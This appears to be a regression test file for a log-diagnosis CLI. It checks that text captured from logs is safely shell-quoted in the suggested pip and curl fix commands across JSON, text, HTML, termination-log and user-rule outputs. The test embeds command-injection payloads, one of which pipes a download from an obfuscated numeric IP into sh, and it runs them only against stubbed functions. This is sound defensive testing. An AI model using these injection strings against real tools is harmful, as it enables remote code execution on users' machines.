import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runBin, tempDir } from './helpers.js';

// Issue 31, item 3: a capture from the log went into the suggested command unquoted, so a log line could
// add its own command: `pip install "tokenizers>=0.21";curl${IFS}2130706433|sh;""`. The real CLI on such a
// log; its fix read back by a real sh with `pip` a function that prints the arguments it was given, in each
// place the issue names: JSON, text, the page's Copy button, the termination log, a user rule's {captures}.

const HOSTILE = 'tokenizers>=0.21";curl${IFS}2130706433|sh;"';
const LOG = `Traceback (most recent call last):
  File "serve.py", line 1, in <module>
ImportError: ${HOSTILE} is required for a normal functioning of this module, but found tokenizers==0.20.0.
`;

/** The arguments sh gives `pip` when it runs `fix`, one per line, after their count. */
function argumentsOf(fix: string): string[] {
  const out = execFileSync(
    '/bin/sh',
    ['-c', `pip() { printf '%s\\n' "$#" "$@"; }; curl() { echo RAN; }; ${fix}`],
    {
      encoding: 'utf8',
      env: { PATH: '/nonexistent' },
    },
  );
  return out.trimEnd().split('\n');
}

describe('a capture is one quoted argument in every format', () => {
  it('json: the fix is pip install and the capture, nothing after', async () => {
    const log = join(tempDir(), 'server.log');
    writeFileSync(log, LOG);
    const result = await runBin(['diagnose', log, '--format', 'json']);
    expect(result.code).toBe(1);
    const fix = (JSON.parse(result.stdout) as { signature: { fix: string } }).signature.fix;
    expect(argumentsOf(fix)).toEqual(['2', 'install', HOSTILE]);
  });

  it('text: the printed fix line runs the same one command', async () => {
    const log = join(tempDir(), 'server.log');
    writeFileSync(log, LOG);
    const result = await runBin(['diagnose', log]);
    const fix = /^fix\s+(.*)$/m.exec(result.stdout)?.[1] ?? '';
    expect(fix).toMatch(/^pip install /);
    expect(argumentsOf(fix)).toEqual(['2', 'install', HOSTILE]);
  });

  it('html: the text the Copy button copies (its <pre>, as textContent) runs the same one command', async () => {
    const log = join(tempDir(), 'server.log');
    writeFileSync(log, LOG);
    const result = await runBin(['diagnose', log, '--format', 'html']);
    const pre = /<pre id="fix-0"><code>([\s\S]*?)<\/code><\/pre><button type="button" data-copy="fix-0"/.exec(
      result.stdout,
    );
    expect(pre).not.toBeNull();
    expect(argumentsOf(textContent(pre?.[1] ?? ''))).toEqual(['2', 'install', HOSTILE]);
  });

  it('run --termination-log: the fix line in the file runs the same one command', async () => {
    const dir = tempDir();
    const server = join(dir, 'server.js');
    writeFileSync(server, `process.stdout.write(${JSON.stringify(LOG)}); process.exit(1);\n`);
    const termination = join(dir, 'termination-log');
    const result = await runBin([
      'run',
      '--no-preflight',
      '--no-history',
      '--termination-log',
      termination,
      '--',
      process.execPath,
      server,
    ]);
    expect(result.code).not.toBe(0);
    const fix = /^fix: (.*)$/m.exec(readFileSync(termination, 'utf8'))?.[1] ?? '';
    expect(fix).toMatch(/^pip install /);
    expect(argumentsOf(fix)).toEqual(['2', 'install', HOSTILE]);
  });
});

describe("a user rule's {captures} are quoted the same", () => {
  it("a host captured from the log cannot add a command to the rule's fix", async () => {
    const dir = tempDir();
    const rules = join(dir, 'rules');
    mkdirSync(rules);
    writeFileSync(
      join(rules, 'license.yaml'),
      [
        'id: my-license-server-down',
        'title: license server unreachable',
        'category: other',
        'engines: [vllm]',
        'keywords: [license server]',
        'match:',
        '  exception: RuntimeError',
        "  message: 'license server (?<host>\\S+) unreachable'",
        'explanation: The plugin could not reach {host}.',
        'fix: curl -v https://{host}/health',
        'references: []',
        '',
      ].join('\n'),
    );
    const host = 'lic.example.com/;sh;#$(sh)`sh`';
    const log = join(dir, 'server.log');
    writeFileSync(
      log,
      `Traceback (most recent call last):\n  File "serve.py", line 1, in <module>\nRuntimeError: license server ${host} unreachable\n`,
    );
    const result = await runBin(['diagnose', log, '--rules', rules, '--format', 'json']);
    expect(result.code).toBe(1);
    const signature = (JSON.parse(result.stdout) as { signature: { id: string; fix: string } }).signature;
    expect(signature.id).toBe('my-license-server-down');
    const out = execFileSync(
      '/bin/sh',
      ['-c', `curl() { printf '%s\\n' "$#" "$@"; }; sh() { echo RAN; }; ${signature.fix}`],
      { encoding: 'utf8', env: { PATH: '/nonexistent' } },
    );
    expect(out.trimEnd().split('\n')).toEqual(['2', '-v', `https://${host}/health`]);
  });
});

/** What a browser's textContent gives for escaped HTML text: the five entities Vigil writes, decoded. */
function textContent(html: string): string {
  return html
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');
}
